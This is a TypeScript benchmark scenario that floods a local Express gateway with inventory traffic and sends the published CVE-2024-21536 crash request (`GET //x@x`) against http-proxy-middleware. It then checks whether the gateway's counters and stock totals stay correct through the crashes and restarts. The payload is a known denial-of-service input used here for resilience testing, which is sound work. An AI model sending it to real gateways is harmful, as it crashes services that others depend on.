/**
 * The gateway storm: bench/apps/storm-gateway.js (Express 4 +
 * http-proxy-middleware 2.0.6 in front of an inventory service),
 * CVE-2024-21536. The attack is one small request, as most request-borne
 * crashes are, so what a storm costs here is the crash and its recovery,
 * not the attack's own traffic (compare the upload storm, whose attack is a
 * fresh connection with a two-part upload).
 *
 *  - Benign: stock updates `POST /api/stock/sku-<k>` ({"n": 1..3}) and (every
 *    --reads-every updates) a catalogue read `GET /api/items`, both proxied;
 *    every request names itself `x-client: bench`.
 *  - Attack: `GET //x@x` with `x-client: attacker`, on a keep-alive agent:
 *    the gateway counts it (requests, byMethod, byClient), then
 *    http-proxy-middleware's filter throws and the promise rejects unhandled.
 *    Its twin is `GET /x@x` (a 404 from the gateway, counted alike).
 *  - Oracle: the gateway's counters count exactly the benign requests
 *    answered (and twins), give or take those whose outcome is unknown; no
 *    attacker request is counted; every item's stock is the sum of the
 *    acknowledged updates to it.
 */
import http = require('node:http');
import path = require('node:path');
import { performance } from 'node:perf_hooks';
import { Attack, AttackOptions, BenignLedger, CannonRequest, Scenario, settleRequest, Verdict } from './scenario';

const SKUS = 16;

/** Ids say what a request was: u-<seq>-<sku number>-<n> (a stock update by n), r-<seq> (a read), twin-<n>. */
const updateId = (seq: number) => `u-${seq}-${1 + (seq % SKUS)}-${1 + (seq % 3)}`;
const parseUpdate = (id: string) => {
  const [, , sku, n] = id.split('-');
  return { sku: `sku-${sku}`, n: Number(n) };
};

function benignRequests(ledger: BenignLedger, readsEvery: number): CannonRequest[] {
  const onResponse = (status: number, _body: string, context: { cur?: string }) => ledger.answer(context.cur!, status);
  const headers = { 'x-client': 'bench' };
  const update: CannonRequest = {
    method: 'POST',
    headers: { ...headers, 'content-type': 'application/json' },
    setupRequest: (req, context) => {
      const id = ledger.next(updateId);
      context.cur = id;
      const { sku, n } = parseUpdate(id);
      return { ...req, path: `/api/stock/${sku}`, body: JSON.stringify({ n }) };
    },
    onResponse,
  };
  const read: CannonRequest = {
    method: 'GET',
    path: '/api/items',
    headers,
    setupRequest: (req, context) => {
      context.cur = ledger.next((seq) => `r-${seq}`);
      return req;
    },
    onResponse,
  };
  return [...Array.from({ length: Math.max(1, readsEvery) }, () => update), ...(readsEvery > 0 ? [read] : [])];
}

/** The attacker keeps its connections alive where the server lets it (srs closes the one a crash was on). */
const attackerAgent = new http.Agent({ keepAlive: true });

function attackOnce({ port, n, t0, harmless, ledger }: AttackOptions): Promise<Attack> {
  return new Promise((resolve) => {
    const t = performance.now() - t0;
    const req = http.request({
      host: '127.0.0.1',
      port,
      // The published payload: url.parse('//x@x').pathname is null.
      path: harmless ? '/x@x' : '//x@x',
      agent: attackerAgent,
      headers: { 'x-client': 'attacker' },
    });
    settleRequest(req, 3000, (outcome) => {
      // A twin is a request of the attacker's client that the gateway counts like any other.
      if (harmless) (/^\d+$/.test(outcome) ? ledger.answered : ledger.unknown).add(`twin-${n}`);
      resolve({ t, outcome });
    });
    req.end();
  });
}

interface GatewayState {
  pid: number;
  requests: number;
  byMethod: Record<string, number>;
  byClient: Record<string, number>;
  proxied: number;
  byStatus: Record<string, number>;
  inventory: Array<{ sku: string; qty: number }>;
}

/** A counter that must lie in [lo, hi]: lo counts what was acknowledged, hi adds what may or may not have arrived. */
interface Bound {
  what: string;
  actual: number;
  lo: number;
  hi: number;
}

function judge(all: unknown[], ledger: BenignLedger, restarts: number): Verdict {
  const states = all as GatewayState[];
  if (states.length === 0) return { equal: false, short: 'lost', text: 'lost: no process answers' };
  const sum = (f: (s: GatewayState) => number | undefined) => states.reduce((total, s) => total + (f(s) ?? 0), 0);
  const benign = (ids: Iterable<string>, p: (id: string) => boolean) => [...ids].filter((id) => !id.startsWith('twin-') && p(id));
  const any = () => true;
  const isUpdate = (id: string) => id.startsWith('u-');
  const isRead = (id: string) => id.startsWith('r-');
  const twins = [...ledger.answered].filter((id) => id.startsWith('twin-')).length;
  const twinsUnknown = [...ledger.unknown].filter((id) => id.startsWith('twin-')).length;
  const range = (what: string, actual: number, answered: number, unknown: number): Bound => ({ what, actual, lo: answered, hi: answered + unknown });
  const bounds: Bound[] = [
    range('bench requests counted', sum((s) => s.byClient.bench), benign(ledger.answered, any).length, benign(ledger.unknown, any).length),
    range('POSTs counted', sum((s) => s.byMethod.POST), benign(ledger.answered, isUpdate).length, benign(ledger.unknown, isUpdate).length),
    range(
      'GETs counted',
      sum((s) => s.byMethod.GET),
      benign(ledger.answered, isRead).length + twins,
      benign(ledger.unknown, isRead).length + twinsUnknown,
    ),
    range('proxied', sum((s) => s.proxied), benign(ledger.succeeded, any).length, benign(ledger.unknown, any).length),
  ];
  // Stock per item: the acknowledged updates' n, plus possibly the unknown ones'.
  const stock = new Map<string, { lo: number; hi: number }>();
  for (let k = 1; k <= SKUS; k++) stock.set(`sku-${k}`, { lo: 0, hi: 0 });
  for (const id of benign(ledger.succeeded, isUpdate)) {
    const { sku, n } = parseUpdate(id);
    stock.get(sku)!.lo += n;
    stock.get(sku)!.hi += n;
  }
  for (const id of benign(ledger.unknown, isUpdate)) stock.get(parseUpdate(id).sku)!.hi += parseUpdate(id).n;
  for (const [sku, { lo, hi }] of stock) {
    const actual = sum((s) => s.inventory.find((item) => item.sku === sku)?.qty);
    bounds.push({ what: `${sku} stock`, actual, lo, hi });
  }
  const attacker = sum((s) => s.byClient.attacker);
  const attackerWant = { lo: twins, hi: twins + twinsUnknown };
  const clients = sum((s) => Object.values(s.byClient).reduce((a, b) => a + b, 0));
  const off = bounds.filter((b) => b.actual < b.lo || b.actual > b.hi);
  const corrupted = attacker > attackerWant.hi;
  const consistent = sum((s) => s.requests) === clients;
  if (off.length === 0 && !corrupted && attacker >= attackerWant.lo && consistent) return { equal: true, short: 'equal', text: 'yes' };
  const parts: string[] = [];
  if (corrupted) parts.push(`${attacker - attackerWant.hi} attacker requests counted`);
  const show = (b: Bound) => `${b.what} ${b.actual} (expected ${b.lo === b.hi ? b.lo : `${b.lo}–${b.hi}`})`;
  if (off.length > 0) parts.push(off.slice(0, 4).map(show).join(', ') + (off.length > 4 ? `, and ${off.length - 4} more` : ''));
  if (!consistent) parts.push('requests ≠ the sum of byClient');
  const lost = off.some((b) => b.actual < b.lo);
  const short = lost ? 'lost' : corrupted ? 'corrupted' : 'differs';
  return { equal: false, short, text: `no: ${parts.join('; ')}${lost && restarts > 0 ? ' (lost with the workers)' : ''}` };
}

export function gatewayScenario(root: string): Scenario {
  return {
    key: 'gateway',
    app: path.join(root, 'bench', 'apps', 'storm-gateway.js'),
    advisory: 'CVE-2024-21536',
    benignRequests,
    attackOnce,
    statePath: '/state',
    judge,
    text: ({ readsEvery }) => ({
      server:
        'bench/apps/storm-gateway.js (an API gateway: Express 4 + http-proxy-middleware 2.0.6, request counters, proxying to an ' +
        `in-process inventory service of ${SKUS} items)`,
      load: `${readsEvery > 0 ? `${readsEvery} ` : ''}proxied stock updates (POST /api/stock/sku-k, {"n": 1–3})${readsEvery > 0 ? ' and 1 proxied catalogue read (GET /api/items)' : ''}`,
      attack: 'each a single `GET //x@x` on a keep-alive agent: the gateway counts it, then http-proxy-middleware\'s path filter throws inside its async middleware (an unhandled rejection)',
      twin: 'the same request on a valid path (`GET /x@x`, a 404 the gateway counts alike)',
      oracle:
        "the gateway's counters (requests per client and method, proxied) count exactly the benign requests answered (give or " +
        'take those whose outcome is unknown), none of the attacker\'s, and each item\'s stock is the sum of the acknowledged updates',
      growth: 'the state is a fixed set of counters and items',
    }),
  };
}
